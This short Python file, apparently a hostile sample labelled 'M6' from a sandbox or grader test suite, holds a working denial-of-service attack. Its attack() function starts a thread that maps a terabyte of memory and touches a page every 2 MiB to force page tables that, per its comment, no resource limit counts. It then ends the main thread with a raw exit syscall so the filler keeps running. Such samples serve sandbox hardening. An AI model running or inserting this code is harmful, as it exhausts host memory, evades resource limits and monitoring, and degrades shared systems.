"""M6: ends its main thread, of which the kernel tells the memory, and fills memory in another one."""

import ctypes
import mmap
import os
import threading
import time


def quick():
    return 7


def fill():
    time.sleep(0.1)
    empty = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    for page in range(0, 1 << 40, 2 << 20):  # tables for it, which no resource limit counts
        empty[page]


def attack():
    threading.Thread(target=fill).start()
    ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
